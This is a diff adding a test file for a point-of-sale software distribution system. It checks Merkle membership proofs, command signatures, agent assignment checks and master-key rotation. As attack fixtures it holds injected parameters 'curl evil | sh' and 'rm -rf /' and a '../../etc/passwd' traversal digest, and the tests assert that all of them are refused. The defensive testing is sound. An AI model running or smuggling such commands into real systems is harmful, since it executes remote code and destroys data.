@@ -1,0 +1,159 @@
+// The trust primitives (DESIGN §12) on their own: Merkle lists, signed commands, what an agent
+// checks in an assignment, and the master key's pinning and rotation.
+import { describe, expect, it } from 'vitest';
+import { compareVersions } from '../src/agent/state.ts';
+import { PinnedKey } from '../src/common/pinned-key.ts';
+import { authorityOf, checkAssignment, commandProblem, signCommand } from '../src/protocol/command.ts';
+import { generateSigningKey } from '../src/protocol/crypto.ts';
+import { fingerprint, rotationStatement, trustedKeys } from '../src/protocol/keys.ts';
+import { canonicalJson, inList, ListTree } from '../src/protocol/signing.ts';
+import type { Assignment, DistributionCommand } from '../src/protocol/types.ts';
+import { tempDir } from './helpers.ts';
+
+const master = generateSigningKey();
+const attacker = generateSigningKey();
+const pkg = { name: 'pos-app', version: '2.4.1', digest: `sha256:${'b'.repeat(64)}`, size: 10, signature: 's' };
+const base: DistributionCommand = {
+  commandId: 'c-1',
+  seq: 1,
+  jobId: 'j-1',
+  relayId: 'relay-a',
+  kind: 'distribute',
+  packages: [pkg],
+  distributionList: ['pos-1', 'pos-2', 'pos-3'],
+  params: { timeoutSec: 60 },
+  issuedAt: '2026-11-26T10:00:00.000Z',
+  issuedBy: 'admin',
+};
+const cmd = signCommand(master.privatePem, base, '2099-01-01T00:00:00.000Z');
+const assignment = (c: DistributionCommand, deviceId: string, over: Partial<Assignment> = {}): Assignment => ({
+  assignmentId: 'a',
+  jobId: c.jobId,
+  commandId: c.commandId,
+  attempt: 1,
+  kind: c.kind,
+  packages: c.packages,
+  params: c.params,
+  authority: authorityOf(c)!,
+  proof: new ListTree(c.distributionList).proof(deviceId) ?? [],
+  ...over,
+});
+
+describe('Merkle distribution lists', () => {
+  it('proves membership with log2 n hashes, for any list size, and nothing else', () => {
+    for (const n of [1, 2, 3, 7, 10_000]) {
+      const ids = Array.from({ length: n }, (_, i) => `pos-${i}`);
+      const tree = new ListTree(ids);
+      for (const id of [ids[0], ids[n - 1], ids[Math.floor(n / 2)]]) {
+        const proof = tree.proof(id)!;
+        expect(proof.length).toBeLessThanOrEqual(Math.ceil(Math.log2(n)));
+        expect(inList(tree.root, id, proof)).toBe(true);
+      }
+      expect(tree.proof('intruder')).toBeUndefined();
+      expect(inList(tree.root, 'intruder', tree.proof(ids[0])!)).toBe(false);
+    }
+  });
+  it('does not depend on the order of the list', () => {
+    expect(new ListTree(['b', 'a', 'c']).root).toBe(new ListTree(['c', 'b', 'a']).root);
+    expect(canonicalJson({ b: 1, a: [{ d: 2, c: undefined }] })).toBe('{"a":[{"d":2}],"b":1}');
+  });
+});
+
+describe('signed commands at the relay', () => {
+  it('takes a whole command signed by its master for itself, and nothing changed', () => {
+    expect(commandProblem([master.publicPem], cmd, 'relay-a')).toBeUndefined();
+    expect(commandProblem([attacker.publicPem], cmd, 'relay-a')).toMatch(/does not verify/);
+    expect(commandProblem([master.publicPem], { ...cmd, params: { preCommand: 'curl evil | sh' } }, 'relay-a')).toMatch(
+      /does not verify/,
+    );
+    expect(
+      commandProblem([master.publicPem], { ...cmd, distributionList: [...cmd.distributionList, 'pos-9'] }, 'relay-a'),
+    ).toMatch(/not the one the master signed/);
+    expect(commandProblem([master.publicPem], cmd, 'relay-b')).toMatch(/for relay relay-a/);
+    expect(commandProblem([master.publicPem], { ...cmd, signature: undefined }, 'relay-a')).toMatch(/not signed/);
+    const old = signCommand(master.privatePem, base, '2020-01-01T00:00:00.000Z');
+    expect(commandProblem([master.publicPem], old, 'relay-a')).toMatch(/expired/);
+  });
+});
+
+describe('what an agent checks before it downloads anything', () => {
+  const keys = [master.publicPem];
+  it('installs exactly the signed packages and parameters for a device on the signed list', () => {
+    expect(checkAssignment(assignment(cmd, 'pos-2'), 'pos-2', keys)).toEqual({
+      ok: true,
+      packages: cmd.packages,
+      params: cmd.params,
+    });
+  });
+  it('refuses a key swap, injected parameters, another device, a traversal digest and an expired command', () => {
+    const forged = signCommand(attacker.privatePem, base, '2099-01-01T00:00:00.000Z');
+    expect(checkAssignment(assignment(forged, 'pos-1'), 'pos-1', keys)).toMatchObject({
+      ok: false,
+      reason: /not signed by the master/,
+    });
+    const injected = assignment(cmd, 'pos-1', { params: { ...cmd.params, preCommand: 'rm -rf /' } });
+    expect(checkAssignment(injected, 'pos-1', keys)).toMatchObject({
+      ok: false,
+      reason: /differ from what the master signed/,
+    });
+    expect(checkAssignment(assignment(cmd, 'pos-1'), 'pos-9', keys)).toMatchObject({
+      ok: false,
+      reason: /pos-9 is not on the distribution list/,
+    });
+    const traversal = assignment(cmd, 'pos-1', { packages: [{ ...pkg, digest: 'sha256:../../etc/passwd' }] });
+    expect(checkAssignment(traversal, 'pos-1', keys).ok).toBe(false);
+    const header = { ...authorityOf(cmd)!.header, packages: [{ ...pkg, digest: 'sha256:../../etc/passwd' }] };
+    expect(
+      checkAssignment(assignment(cmd, 'pos-1', { authority: { header, signature: cmd.signature! } }), 'pos-1', keys),
+    ).toMatchObject({
+      ok: false,
+      reason: /no well-formed signed command header/,
+    });
+    const old = signCommand(master.privatePem, base, '2020-01-01T00:00:00.000Z');
+    expect(checkAssignment(assignment(old, 'pos-1'), 'pos-1', keys)).toMatchObject({
+      ok: false,
+      failureType: 'EXPIRED',
+    });
+  });
+  it('a redistribution narrows the original: same header, a device of its list, nothing else', () => {
+    const redo: DistributionCommand = {
+      ...base,
+      commandId: 'r-1',
+      kind: 'redistribute',
+      distributionList: ['pos-3'],
+      original: authorityOf(cmd),
+    };
+    const a = assignment(redo, 'pos-3', { proof: new ListTree(cmd.distributionList).proof('pos-3')! });
+    expect(checkAssignment(a, 'pos-3', keys).ok).toBe(true);
+    // A relay cannot widen it: a device not on the original's list has no proof.
+    expect(checkAssignment({ ...a, proof: [] }, 'pos-7', keys).ok).toBe(false);
+    expect(checkAssignment({ ...a, params: { preCommand: 'x' } }, 'pos-3', keys).ok).toBe(false);
+  });
+});
+
+describe('the master key: pinned, rotated only by a statement the pinned key signed', () => {
+  it('follows a signed rotation and refuses a key that arrives without one', () => {
+    const next = generateSigningKey();
+    const rotation = rotationStatement(master.privatePem, master.publicPem, next.publicPem);
+    expect(trustedKeys(master.publicPem, next.publicPem, [rotation])).toEqual([master.publicPem, next.publicPem]);
+    expect(() => trustedKeys(master.publicPem, attacker.publicPem, [])).toThrow(
+      /without a rotation statement signed by the pinned key/,
+    );
+    const forgedRotation = rotationStatement(attacker.privatePem, master.publicPem, attacker.publicPem);
+    expect(() => trustedKeys(master.publicPem, attacker.publicPem, [forgedRotation])).toThrow(/key changed/);
+  });
+  it('pins at the first enrollment, or the key --master-key names', async () => {
+    const key = new PinnedKey(tempDir('pin'));
+    await key.accept(master.publicPem);
+    await expect(key.accept(attacker.publicPem)).rejects.toThrow(/key changed/);
+    expect(new PinnedKey(key['dataDir' as never]).keys).toEqual([master.publicPem]);
+    const strict = new PinnedKey(tempDir('pin2'), fingerprint(master.publicPem));
+    await expect(strict.accept(attacker.publicPem)).rejects.toThrow(/not SHA256:.* as --master-key says/);
+    await strict.accept(master.publicPem);
+  });
+  it('orders versions part by part', () => {
+    expect(compareVersions('2.10.0', '2.9.1')).toBe(1);
+    expect(compareVersions('2.4.1', '2.5.0')).toBe(-1);
+    expect(compareVersions('1.0.0', '1.0.0')).toBe(0);
+  });
+});
